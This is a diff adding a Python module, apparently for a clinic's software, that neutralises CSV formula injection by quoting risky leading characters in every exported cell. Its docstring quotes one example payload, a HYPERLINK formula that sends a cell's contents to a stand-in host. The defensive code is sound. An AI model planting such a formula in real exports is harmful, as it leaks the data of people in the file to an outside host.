@@ -1,0 +1,46 @@
+"""CSV cells that a spreadsheet cannot run: the one writer every CSV export uses.
+
+A spreadsheet treats a cell starting with `=`, `+`, `-` or `@` as a formula (and a
+leading tab or carriage return can hide one), so a patient named
+`=HYPERLINK("http://evil.example/?x="&A1,"click")` becomes a live link in whoever opens
+the export. Following OWASP's CSV injection guidance, such a cell is written with a
+leading `'`, which spreadsheets show as text. The rule has no exceptions: a negative
+number (`-5`) and an E.164 phone number (`+14165550123`) are quoted too; importing one of
+our files back (`clinic.csv_import`) removes the quote again with `csv_cell_restore`.
+"""
+
+from __future__ import annotations
+
+import csv
+from collections.abc import Iterable
+
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(value) -> str:
+    """The value as a cell a spreadsheet shows as text (None is empty)."""
+    if value is None:
+        return ""
+    text = str(value)
+    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text
+
+
+def csv_cell_restore(text: str) -> str:
+    """The value `csv_cell` wrote: `'=x` -> `=x`; any other text unchanged."""
+    if text.startswith("'") and text[1:].startswith(FORMULA_TRIGGERS):
+        return text[1:]
+    return text
+
+
+class SafeCsvWriter:
+    """`csv.writer` whose every cell goes through `csv_cell`."""
+
+    def __init__(self, out, **kwargs):
+        self._writer = csv.writer(out, **kwargs)
+
+    def writerow(self, row: Iterable) -> None:
+        self._writer.writerow([csv_cell(value) for value in row])
+
+    def writerows(self, rows: Iterable[Iterable]) -> None:
+        for row in rows:
+            self.writerow(row)
